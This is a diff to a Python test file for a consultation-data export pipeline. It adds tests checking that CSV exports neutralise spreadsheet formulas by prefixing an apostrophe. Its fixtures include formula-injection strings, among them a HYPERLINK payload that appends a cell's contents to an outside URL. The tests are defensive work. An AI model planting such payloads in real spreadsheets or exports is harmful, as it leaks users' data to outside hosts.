@@ -4,6 +4,7 @@ import random
 from collections import Counter
 from hashlib import sha256
 
+import pandas as pd
 import pyarrow.parquet
 import pytest
 from clickhouse_server import insert_consultation, insert_proposals, insert_tallies, insert_votes
@@ -11,6 +12,7 @@ from clickhouse_server import insert_consultation, insert_proposals, insert_tall
 from operators.core.errors import TerminalError
 from pipelines.exchange.polis_export import export_polis
 from pipelines.exchange.polis_import import read_polis
+from pipelines.exchange.spreadsheets import ACTIVE, is_text
 from pipelines.exchange.tables_export import export_tables
 from pipelines.periodic.publish import publish
 
@@ -63,7 +65,7 @@ def counted(votes) -> Counter:
 def test_the_polis_layout_comes_back_through_the_importer_with_equal_counts(
     clickhouse, votes, tmp_path
 ):
-    export_polis(clickhouse, "export", tmp_path / "out")
+    export_polis(clickhouse, "export", tmp_path / "out", noon)
     found = read_polis(tmp_path / "out", "again")
     assert Counter((vote["proposal_id"], vote["choice"]) for vote in found.votes) == counted(votes)
     assert {p["proposal_id"]: p["status"] for p in found.proposals} == dict.fromkeys(
@@ -72,7 +74,7 @@ def test_the_polis_layout_comes_back_through_the_importer_with_equal_counts(
 
 
 def test_the_polis_layout_agrees_with_itself(clickhouse, votes, tmp_path):
-    export_polis(clickhouse, "export", tmp_path / "out")
+    export_polis(clickhouse, "export", tmp_path / "out", noon)
     with (tmp_path / "out" / "votes.csv").open() as lines:
         cast = Counter((row["voter-id"], row["comment-id"]) for row in csv.DictReader(lines))
     assert max(cast.values()) == 1
@@ -91,12 +93,12 @@ def test_the_polis_layout_agrees_with_itself(clickhouse, votes, tmp_path):
 def test_tables_carry_their_schema_and_their_checksums(clickhouse, votes, tmp_path):
     folder = tmp_path / "out"
     manifest = export_tables(clickhouse, "export", folder, "marts", noon)
-    told = json.loads((folder / "manifest.json").read_text())
-    assert told["consultation_id"] == "export"
-    assert {file["file"] for table in told["tables"] for file in table["files"]} | {
+    manifest = json.loads((folder / "manifest.json").read_text())
+    assert manifest["consultation_id"] == "export"
+    assert {file["file"] for table in manifest["tables"] for file in table["files"]} | {
         "manifest.json"
     } == {file.name for file in folder.iterdir()}
-    for table in told["tables"]:
+    for table in manifest["tables"]:
         for file in table["files"]:
             content = (folder / file["file"]).read_bytes()
             assert (len(content), sha256(content).hexdigest()) == (file["bytes"], file["sha256"])
@@ -147,3 +149,128 @@ def test_an_unknown_consultation_leaves_no_folder(clickhouse, tmp_path):
     with pytest.raises(TerminalError, match="no consultation nobody"):
         export_tables(clickhouse, "nobody", tmp_path / "out", "marts", noon)
     assert list(tmp_path.iterdir()) == []
+
+
+ATTACK = '=HYPERLINK("https://example.org/?"&A1,"look")'
+FORMULAS = [
+    *(ATTACK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=", "-", '"=1"', "'=1", " =1", "1-1"),
+    *("a,=1", 'a";=1', "line\n=1", "-"),
+]
+
+
+@pytest.fixture(scope="module")
+def formulas(clickhouse):
+    """Each as the text of a proposal; ids may begin with a hyphen too."""
+    insert_consultation(clickhouse, "sheet", {"FR": 1.5, "DE": 2})
+    names = [f"{'-' if n % 3 == 0 else ''}p{n}" for n in range(len(FORMULAS))]
+    clickhouse.insert(
+        "proposals",
+        [
+            ["sheet", name, text, "en", "FR" if n % 2 else "", "accepted", n, n]
+            for n, (name, text) in enumerate(zip(names, FORMULAS, strict=True))
+        ],
+        column_names=[
+            *("consultation_id", "proposal_id", "text", "language", "country", "status"),
+            *("submitted_ms", "origin_offset"),
+        ],
+        database="tutti",
+    )
+    insert_votes(
+        clickhouse,
+        [
+            {"consultation_id": "sheet", "proposal_id": name, "participant": person << 90,
+             "choice": ["agree", "disagree", "neutral"][(n + person) % 3]}
+            for n, name in enumerate(names[:-2])
+            for person in range(1, 12)
+        ],
+        first_offset=90_000,
+    )  # fmt: skip
+    insert_tallies(
+        clickhouse,
+        [
+            {"consultation_id": "sheet", "proposal_id": name, "agree": n, "disagree": 40 - n}
+            for n, name in enumerate(names[:-2])
+        ],
+    )
+    publish(clickhouse, noon() + 120_000)
+    return dict(zip(names, FORMULAS, strict=True))
+
+
+def rows_of(file):
+    with file.open(newline="", encoding="utf-8") as lines:
+        return list(csv.DictReader(lines))
+
+
+@pytest.mark.parametrize("database", ["marts", "open"])
+def test_no_cell_of_any_csv_is_run_numbers_stay_numbers_and_parquet_is_exact(
+    clickhouse, formulas, tmp_path, database
+):
+    manifest = export_tables(clickhouse, "sheet", tmp_path / "csv", database, noon)
+    raw = export_tables(clickhouse, "sheet", tmp_path / "raw", database, noon, raw=True)
+    assert manifest.csv.defused
+    assert "apostrophe" in manifest.csv.about
+    assert not raw.csv.defused
+    defused = nulls = numbers = 0
+    for table in manifest.tables:
+        name = table.view.partition(".")[2]
+        kinds = {column["name"]: column["type"] for column in table.columns}
+        text, exact = (
+            rows_of(tmp_path / "csv" / f"{name}.csv"),
+            rows_of(tmp_path / "raw" / f"{name}.csv"),
+        )
+        parquet = pyarrow.parquet.read_table(tmp_path / "csv" / f"{name}.parquet").to_pylist()
+        assert len(text) == len(exact) == len(parquet) == table.rows
+        frame = pd.read_csv(tmp_path / "csv" / f"{name}.csv")
+        for column, kind in kinds.items() if table.rows else ():
+            if any(number in kind for number in ("Int", "Float", "Decimal")) and "(" not in (
+                kind.replace("Nullable(", "")
+            ):
+                assert frame[column].dtype.kind in "iuf", (table.view, column)
+                numbers += 1
+        for cells, raws, values in zip(text, exact, parquet, strict=True):
+            for column, cell in cells.items():
+                value = values[column]
+                if value is None:
+                    assert cell == raws[column] == ""
+                    nulls += 1
+                elif is_text(kinds[column]):
+                    assert raws[column] == value
+                    assert cell == (f"'{value}" if value[:1] in set(ACTIVE) else value)
+                    assert cell[:1] not in set(ACTIVE)
+                    defused += cell != value
+                else:
+                    assert cell == raws[column]
+    assert defused > len(formulas) / 2
+    assert nulls
+    assert numbers > 10
+
+
+def test_the_polis_layout_is_defused_and_raw_comes_back_as_it_was(clickhouse, formulas, tmp_path):
+    export_polis(clickhouse, "sheet", tmp_path / "csv", noon)
+    manifest = export_polis(clickhouse, "sheet", tmp_path / "raw", noon, raw=True)
+    assert json.loads((tmp_path / "csv" / "manifest.json").read_text())["csv"]["defused"]
+    assert not manifest.csv.defused
+    for file in ("comments.csv", "votes.csv", "participants-votes.csv"):
+        with (tmp_path / "csv" / file).open(newline="") as lines:
+            for row in csv.reader(lines):
+                for cell in row:
+                    assert cell[:1] not in set(ACTIVE) or cell == "-1", (file, cell)
+    assert {row["comment-body"] for row in rows_of(tmp_path / "csv" / "comments.csv")} == {
+        f"'{text}" if text[:1] in set(ACTIVE) else text for text in FORMULAS
+    }
+    back = read_polis(tmp_path / "raw", "again")
+    texts = {p["proposal_id"]: p["text"].replace("\r", "\n") for p in back.proposals}
+    assert texts == {name: text.replace("\r", "\n") for name, text in formulas.items()}
+    assert {vote["proposal_id"] for vote in back.votes} <= set(formulas)
+
+
+def test_what_is_about_the_consultation_itself_comes_back_as_such(clickhouse, votes, tmp_path):
+    insert_consultation(clickhouse, "export-meta")
+    insert_proposals(clickhouse, "export-meta", ["1"])
+    insert_proposals(clickhouse, "export-meta", ["2"], meta=True)
+    export_polis(clickhouse, "export-meta", tmp_path / "out", noon)
+    found = read_polis(tmp_path / "out", "again")
+    assert {p["proposal_id"]: p.get("meta", False) for p in found.proposals} == {
+        "1": False,
+        "2": True,
+    }
